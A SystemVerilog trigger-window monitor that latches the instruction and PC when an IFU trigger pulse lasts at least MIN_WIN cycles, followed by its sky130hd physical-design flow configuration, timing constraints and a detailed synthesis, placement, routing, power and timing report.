==> src/rtl/trig_01_mon.sv <==
// Trigger-window monitor for the IFU trigger_01 line.
// A trigger pulse that stays high for at least MIN_WIN cycles raises a sticky
// alert. The alert records the IR/PC seen on the pulse's rising edge and the
// pulse length. It also bumps a saturating event counter.
//
// state  | meaning
// -------+-----------------------------------------------------------
// IDLE   | waiting for a trigger rising edge while enabled
// ACTIVE | trigger high, window length being counted
// ALERT  | qualified window committed, alert_o held until alert_ack
module trig_01_mon #(
  parameter int unsigned MIN_WIN = 3,
  parameter int unsigned CNT_W   = 8
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             mon_en,
  input  logic             trig_01_i,
  input  logic [31:0]      ifu_o_ir,
  input  logic [31:0]      ifu_o_pc,
  input  logic             alert_ack,
  output logic             alert_o,
  output logic [CNT_W-1:0] alert_cnt,
  output logic [31:0]      cap_ir,
  output logic [31:0]      cap_pc,
  output logic             cap_vld,
  output logic [3:0]       win_len,
  output logic             ovf
);

  typedef enum logic [1:0] {
    IDLE   = 2'd0,
    ACTIVE = 2'd1,
    ALERT  = 2'd2
  } state_t;

  localparam logic [3:0] MIN_WIN_L = 4'(MIN_WIN);

  state_t      state_q, state_d;
  logic        trig_q;
  logic        armed_q;
  logic        rise, fall;
  logic [31:0] shadow_ir, shadow_pc;
  logic [3:0]  cnt_q;

  logic        ld_win;
  logic        inc_win;
  logic        commit;
  logic        clr_alert;
  logic        set_ovf;

  // armed_q blocks a rise from a trigger that was already high at reset
  // release. The trigger must first be seen low.
  assign rise = trig_01_i & ~trig_q & armed_q;
  assign fall = ~trig_01_i & trig_q;

  // Trigger edge-detect register and re-arm flag.
  always_ff @(posedge clk) begin
    if (!rst_n) begin
      trig_q  <= 1'b0;
      armed_q <= 1'b0;
    end else begin
      trig_q <= trig_01_i;
      if (!trig_01_i) armed_q <= 1'b1;
    end
  end

  // State register.
  always_ff @(posedge clk) begin
    if (!rst_n) state_q <= IDLE;
    else        state_q <= state_d;
  end

  // Next-state and datapath strobes.
  always_comb begin
    state_d   = state_q;
    ld_win    = 1'b0;
    inc_win   = 1'b0;
    commit    = 1'b0;
    clr_alert = 1'b0;
    set_ovf   = 1'b0;
    case (state_q)
      IDLE: begin
        if (rise && mon_en) begin
          ld_win  = 1'b1;
          state_d = ACTIVE;
        end
      end
      ACTIVE: begin
        if (!mon_en) begin
          state_d = IDLE;
        end else if (trig_01_i) begin
          inc_win = 1'b1;
        end else if (fall && (cnt_q >= MIN_WIN_L)) begin
          commit  = 1'b1;
          state_d = ALERT;
        end else begin
          state_d = IDLE;
        end
      end
      ALERT: begin
        if (alert_ack) begin
          clr_alert = 1'b1;
          if (rise && mon_en) begin
            ld_win  = 1'b1;
            state_d = ACTIVE;
          end else begin
            state_d = IDLE;
          end
        end else if (rise) begin
          set_ovf = 1'b1;
        end
      end
      default: state_d = IDLE;
    endcase
  end

  // Shadow capture of IR/PC at the window's rising edge, plus window length counter.
  always_ff @(posedge clk) begin
    if (!rst_n) begin
      shadow_ir <= '0;
      shadow_pc <= '0;
      cnt_q     <= '0;
    end else if (ld_win) begin
      shadow_ir <= ifu_o_ir;
      shadow_pc <= ifu_o_pc;
      cnt_q     <= 4'd1;
    end else if (inc_win && (cnt_q != 4'd15)) begin
      cnt_q <= cnt_q + 4'd1;
    end
  end

  // Commit of a qualified window into the visible capture registers.
  always_ff @(posedge clk) begin
    if (!rst_n) begin
      cap_ir    <= '0;
      cap_pc    <= '0;
      cap_vld   <= 1'b0;
      win_len   <= '0;
      alert_cnt <= '0;
    end else if (commit) begin
      cap_ir  <= shadow_ir;
      cap_pc  <= shadow_pc;
      cap_vld <= 1'b1;
      win_len <= cnt_q;
      if (alert_cnt != {CNT_W{1'b1}}) alert_cnt <= alert_cnt + CNT_W'(1);
    end
  end

  // Alert pending and sticky overflow flags.
  always_ff @(posedge clk) begin
    if (!rst_n) begin
      alert_o <= 1'b0;
      ovf     <= 1'b0;
    end else begin
      if (commit)         alert_o <= 1'b1;
      else if (clr_alert) alert_o <= 1'b0;
      if (set_ovf) ovf <= 1'b1;
    end
  end

endmodule

==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = trig_01_mon
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trig_01_mon.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CORE_MARGIN = 2
export CORE_UTILIZATION = 47
export DETAILED_ROUTE_END_ITERATION = 6
export MAX_ROUTING_LAYER = met4
export PLACE_DENSITY = 0.73
export SKIP_LAST_GASP = 1
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 1.8 [get_ports clk]
set_input_delay 0.27 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.27 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> flow_summary.json <==
{
  "worst_pin_slew_ns": 0.555,
  "drc": 0,
  "r2r_end": "alert_cnt[0]",
  "place_congestion": 0.818,
  "finalSetupViolCount": 0,
  "path_class": "flip-flop to flip-flop",
  "setup_tns_ns": 0,
  "synth-main-ff-cell": "dfxtp_1",
  "synth_edf_count": 0,
  "endpoint_kind": "flip-flop",
  "synth-seq-area-share_pct": 55.0,
  "rsz0062_at_grt": "no",
  "cts_tree": "yes",
  "startpoint": "cnt_q[0]",
  "fin_nets": 878,
  "cts_buffers": 17,
  "r2r_cells": 6,
  "drv_cap": 0,
  "grt_pass1_vias": 4595,
  "viasPerCell": 5.09,
  "final_common_cell": "nand2_1",
  "die_h_um": 112,
  "ir_worst_vdd_mv": 0.686,
  "fp.dieArea_um2": 12600,
  "r2r_setup_slack_ns": 0.1,
  "synth_seq_cells": 151,
  "htree_levels": 4,
  "dp_hpwl_mm": 8.62,
  "wl_per_cell_um": 13.6,
  "cts.path.max_buffers": 2,
  "grt_max_degree": 42,
  "critPathArrivalTime_ns": 2.05,
  "grt_overflow": 0,
  "grt_usage_pct": 21.8,
  "post-route-min-period_ns": 1.70,
  "drtIter0Drc": 304,
  "endpoint": "alert_cnt[0]",
  "drt_wl_total_mm": 13.1,
  "powerDensity_nw_per_um2": 986,
  "hold_violations": 0,
  "synth_cell_types": 41,
  "areaGrowthSynthToFinish_pct": 33.5,
  "max_freq_mhz": 588,
  "slew_headroom_pct": 62.9,
  "dr_total_vias": 4904,
  "netlist_area_um2": 5490,
  "dp_slack_ns": 0.0984,
  "p_sw_mw": 1.49,
  "crit_path_max_fanout": 25,
  "die_width_um": 112,
  "r2r_start": "cnt_q[0]",
  "final_cell_mix": "nand2_1, buf_4, dfxtp_1",
  "cts.clk_slew.worst_paths_ns": 0.06,
  "critPathLaunchType": "flip-flop",
  "combPwrFrac_pct": 4.1,
  "netlist_instances": 671,
  "fin_crit_sh_pct": 94.5,
  "seq_power_share_pct": 47.1,
  "slew_viol_final": 0,
  "min_path_type": "input pin to flip-flop",
  "power.internal_mw": 5.73,
  "clock_latency_ns": 0.42,
  "syn-num-nets": 742,
  "nFillCells": 1010,
  "total_leakage_power_nw": 2.81,
  "start_util_pct": 48.1,
  "grt_antenna_before_repair": 0,
  "async_reset_ff_share_pct": 0,
  "holdWs_ns": 0.0877,
  "fin_skew_ns": 0.00538,
  "required_ns": 2.14,
  "clock-sinks": 151,
  "status": "finished clean",
  "postRouteAntennaNets": 0,
  "ios": 148,
  "clkPwrFrac_pct": 48.9,
  "p_sw_share_pct": 20.7,
  "yosysWarnings": 0,
  "core_area_um2": 11400,
  "n_antenna_cell": 0,
  "fin_ws_ns": 0.0983,
  "clockRootBuffer": "clkbuf_16",
  "grt_pass1_wl_mm": 21.7,
  "layout-drive-gt1-share_pct": 24.6,
  "firstDrtPassIters": 4,
  "avgSynthCellArea_um2": 8.18,
  "rows": 39,
  "io_buffers": 147
}
[through the flow]
stage | cells | instance area, µm² | util [%] | total power [mW]
global placement | 931 | 6730 | 58.9 | 3.76
global route | 963 | 7330 | 64.2 | 7.48
detailed placement | 931 | 6730 | 58.9 | 3.77
floorplan | 671 | 5490 | - | 3.60
CTS | 963 | 7330 | 64.2 | 7.29
finish | 963 | 7330 | 64.2 | 7.23
[power by group through the flow]
stage                     sequential, mW  clock, mW  combinational [mW]
after floorplan                     3.47          0               0.128
after global placement              3.47          0               0.290
after detailed placement            3.47          0               0.293
after CTS                           3.40       3.59               0.295
after global routing                3.40       3.75               0.322
final                               3.40       3.53               0.293
[timing repair]
| item | in CTS | in global routing |
|---|---|---|
| hold buffers | 0 | 0 |
| setup buffers | 0 | 0 |
| endpoints found under the setup margin | 0 | 24 |
| gates resized for setup | 0 | 1 |
[synth_stat cells, drive strengths merged, types with 3 or more instances]
master,instances,area (µm²)
dfxtp,151,3020
or3,3,23.8
o31ai,4,30.0
o21ai,6,30.0
nand2,265,995
nand3,5,37.5
or4,3,22.5
nor2,9,33.8
clkbuf,19,71.3
inv,4,15.0
buf,26,214
nor3,4,20.0
a21oi,142,711
[sequential cells by signal, summed over array words and instances (netlist names), 2 cells and up]
signal and count:
shadow_pc 32, win_len 4, state_q 2, cap_pc 32
cnt_q 4, cap_ir 32, shadow_ir 32, alert_cnt 8
[worst min path at each step]
| stage | from | to | slack [ns] | depth (start not counted) |
|---|---|---|---|---|
| finish | trig_01_i | armed_q | 0.09 | 2 |
| global route | trig_01_i | armed_q | 0.08 | 2 |
| CTS | trig_01_i | armed_q | 0.07 | 2 |
| detailed placement | shadow_ir[26] | cap_ir[26] | 0.44 | 2 |
| global placement | shadow_pc[31] | cap_pc[31] | 0.43 | 2 |
| floorplan | trig_01_i | armed_q | 0.37 | 1 |
[kinds of logic (layout without fill, tap and decap cells)]
logic type,count (synthesis),count (layout),synth area share [%]
multiplexers,2,2,0.365
buffers and inverters,49,198,5.47
adder cells (fa/ha/maj),2,2,0.456
flip-flops,151,151,55.0
AO/OA/AOI/OAI,161,161,15.5
XOR/XNOR,2,2,0.319
AND/OR/NAND/NOR,304,304,22.8
[cell type report]
type                    instances  area [µm²]  share of cell area (%)
multi-input cells             471        2170                    29.6
well taps                     143         179                    2.44
inverters                       4        17.5                   0.239
repair buffers                162        1340                    18.3
clock buffers                  19         443                    6.04
clock inverters                13         155                    2.12
flip-flops and latches        151        3020                    41.2
[worst max-delay path, stage by stage (launching register included)]
cell	delay (ns)
dfxtp_1	0.39
ha_2	0.24
or3_4	0.15
nand3_4	0.15
buf_12	0.21
or3_1	0.34
a21oi_1	0.15
[routing by layer]
metal	wire [µm]	up-vias	GRT usage [%]
li1	-	2470	-
met4	285	0	8.62
met2	6680	121	36.0
met1	5600	2292	26.0
met5	0	-	-
met3	578	21	4.97
Power figures use the tool's default switching activity.
